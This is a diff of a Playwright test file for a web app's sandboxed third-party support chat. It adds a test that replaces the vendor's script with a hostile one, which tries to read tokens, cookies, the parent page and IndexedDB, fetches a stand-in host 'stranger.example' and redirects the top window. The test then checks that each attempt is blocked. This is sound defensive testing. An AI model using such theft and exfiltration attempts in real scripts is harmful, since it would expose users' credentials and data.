@@ -13,6 +13,8 @@ interface Help {
 
 /** Watches what the page does for somebody who wants help; the vendor's script is what `answer` says. */
 async function watchHelp(page: Page, answer: 'opens' | 'throws' | 'never comes' | 'is missing'): Promise<Help> {
+  // What a test answers is not of this machine, as the sandbox is.
+  await page.context().grantPermissions(['local-network-access']);
   const help = { letters: [] as string[], scripts: 0 };
   page.on('request', (request) => {
     if (request.url().startsWith('mailto:')) help.letters.push(request.url());
@@ -30,22 +32,17 @@ async function watchHelp(page: Page, answer: 'opens' | 'throws' | 'never comes' 
   return help;
 }
 
-/** Serves the pages as a host would that sends no policy: there the vendor's script may come into the page. */
-async function liftPolicy(page: Page, origin: string): Promise<void> {
-  // A page that comes from the test is not of this machine any more, as the sandbox is.
-  await page.context().grantPermissions(['local-network-access'], { origin });
-  await page.route(
-    ({ href }) => href.startsWith(origin),
-    async (route) => {
-      if (!route.request().isNavigationRequest()) return route.fallback();
-      const response = await route.fetch();
-      const headers = Object.entries(response.headers()).filter(([name]) => !/-policy$/.test(name));
-      await route.fulfill({ response, headers: Object.fromEntries(headers) });
-    },
-  );
-}
-
-const readOpened = (page: Page) => page.evaluate(() => (window as { opened?: number }).opened);
+/** What stands in the frame around the vendor's script. */
+const frameOf = (page: Page) => page.frames().find((frame) => frame.url().endsWith('/frames/chat.html'))!;
+/** A value that the vendor's script has put into its window; null as long as there is no such frame or value. */
+const readThere = async (page: Page, name: string): Promise<unknown> => {
+  try {
+    return await frameOf(page).evaluate((key) => (window as unknown as Record<string, unknown>)[key] ?? null, name);
+  } catch {
+    return null;
+  }
+};
+const readOpened = (page: Page) => readThere(page, 'opened');
 
 test.describe('help and support', () => {
   test('loads nothing of another company until the member agrees, and then opens its chat', async ({
@@ -54,7 +51,6 @@ test.describe('help and support', () => {
     sandbox,
     say,
   }) => {
-    await liftPolicy(page, origin);
     const help = await watchHelp(page, 'opens');
     await enter(page, { origin, sandbox }, 'complete');
     const button = page.getByRole('contentinfo').getByRole('button', { name: say('Help and support') });
@@ -67,35 +63,86 @@ test.describe('help and support', () => {
     expect(help.scripts).toBe(0);
     await button.click();
     await dialog.getByRole('button', { name: say('Open the chat') }).click();
+    const panel = page.getByRole('dialog', { name: say('Help and support') });
+    await expect(panel.getByTitle(say('Help and support'))).toBeVisible();
     await expect.poll(() => readOpened(page)).toBe(1);
+    await expect(panel.getByText(say('Opening the chat …'))).toHaveCount(0);
     expect(help.scripts).toBe(1);
+    await panel.getByRole('button', { name: say('Close') }).click();
+    await expect(page.locator('iframe')).toHaveCount(0);
+    await expect(button).toBeFocused();
     // Agreed once, it opens at once.
     await button.click();
-    await expect.poll(() => readOpened(page)).toBe(2);
-    await expect(dialog).toHaveCount(0);
-    expect(help.scripts).toBe(1);
+    await expect.poll(() => readOpened(page)).toBe(1);
+    await expect(dialog).toHaveCount(1);
     expect(help.letters).toEqual([]);
+    // The vendor may close it too.
+    await frameOf(page).evaluate(() =>
+      (window as unknown as { liveChatButton: { onClose(): void } }).liveChatButton.onClose(),
+    );
+    await expect(page.locator('iframe')).toHaveCount(0);
+    // It does not come along where passwords and money are dealt with.
+    await button.click();
+    await expect.poll(() => readOpened(page)).toBe(1);
+    await page.evaluate(() => {
+      history.pushState(null, '', '/premium-plans/plans');
+      dispatchEvent(new PopStateEvent('popstate'));
+    });
+    await expect(page).toHaveURL(/premium-plans/);
+    await expect(page.locator('iframe')).toHaveCount(0);
   });
 
-  test('falls back to a letter where the policy keeps the script out', async ({
-    page,
-    origin,
-    sandbox,
-    say,
-    watch,
-  }) => {
-    const help = await watchHelp(page, 'opens');
+  test('keeps a hostile script of the vendor away from the member', async ({ page, origin, sandbox, say, watch }) => {
+    await page.context().grantPermissions(['local-network-access']);
+    const attack = async () => {
+      const attempts: Record<string, () => unknown> = {
+        token: () => localStorage.getItem('token'),
+        tab: () => sessionStorage.length,
+        cookies: () => document.cookie,
+        page: () => parent.document.body.innerHTML,
+        pageStorage: () => parent.localStorage.getItem('token'),
+        frameElement: () => window.frameElement ?? Promise.reject(new Error('none')),
+        databases: () =>
+          new Promise((resolve, reject) => {
+            const request = indexedDB.open('a');
+            request.onsuccess = resolve;
+            request.onerror = reject;
+          }),
+        sink: () => fetch('https://stranger.example/'),
+        home: () => fetch('/'),
+        top: () => {
+          top!.location.href = 'https://stranger.example/';
+        },
+      };
+      const got: string[] = [];
+      for (const [name, attempt] of Object.entries(attempts)) {
+        try {
+          await attempt();
+          got.push(name);
+        } catch {
+          // Refused, as it must be.
+        }
+      }
+      parent.postMessage({ type: 'opened' }, '*');
+      Object.assign(window, { got, liveChatButton: { open() {} } });
+    };
+    await page.route(script, (route) => route.fulfill({ contentType: 'text/javascript', body: `(${attack})()` }));
     await enter(page, { origin, sandbox }, 'complete');
-    const footer = page.getByRole('contentinfo');
-    await footer.getByRole('button', { name: say('Help and support') }).click();
+    const before = page.url();
+    expect(await page.evaluate(() => localStorage.getItem('token'))).not.toBeNull();
+    await page
+      .getByRole('contentinfo')
+      .getByRole('button', { name: say('Help and support') })
+      .click();
     await page
       .getByRole('dialog')
       .getByRole('button', { name: say('Open the chat') })
       .click();
-    await expect.poll(() => help.letters).toEqual(['mailto:support.de@lindavelle.example']);
-    await expect(footer.getByRole('link', { name: say('Help and support') })).toBeVisible();
-    expect(help.scripts).toBe(0);
-    expect(watch.troubles.splice(0)).toEqual([expect.stringMatching(/^require-trusted-types-for refused/)]);
+    await expect.poll(() => readThere(page, 'got')).toEqual([]);
+    expect(await frameOf(page).evaluate(() => self.origin)).toBe('null');
+    expect(page.url()).toBe(before);
+    expect(watch.requests.filter((url) => url.includes('stranger.example'))).toEqual([]);
+    watch.troubles.length = 0;
   });
 
   test('can be asked for by letter instead, without loading anything', async ({ page, origin, sandbox, say }) => {
@@ -121,7 +168,6 @@ test.describe('help and support', () => {
       say,
     }) => {
       await page.clock.install();
-      await liftPolicy(page, origin);
       const help = await watchHelp(page, failure);
       const headers = { Authorization: `Bearer ${await tokenOf(sandbox, 'complete')}` };
       const user = (await (await fetch(`${sandbox}/api/config/user`, { headers })).json()) as { data: object };
@@ -135,14 +181,16 @@ test.describe('help and support', () => {
         .getByRole('button', { name: say('Open the chat') })
         .click();
       if (failure === 'never comes') {
-        await expect(footer.getByText(say('Opening the chat …'))).toBeVisible();
-        await page.clock.runFor(9500);
+        await expect(page.getByRole('dialog').getByText(say('Opening the chat …'))).toBeVisible();
+        await page.clock.runFor(5000);
         expect(help.letters).toEqual([]);
-        await page.clock.runFor(1000);
+        await page.clock.runFor(6000);
       }
       await expect.poll(() => help.letters).toEqual(['mailto:support.at@lindavelle.example']);
       const link = footer.getByRole('link', { name: say('Help and support') });
       await expect(link).toHaveAttribute('href', 'mailto:support.at@lindavelle.example');
+      await expect(page.locator('iframe')).toHaveCount(0);
+      expect(help.scripts).toBe(1);
     });
   }
 
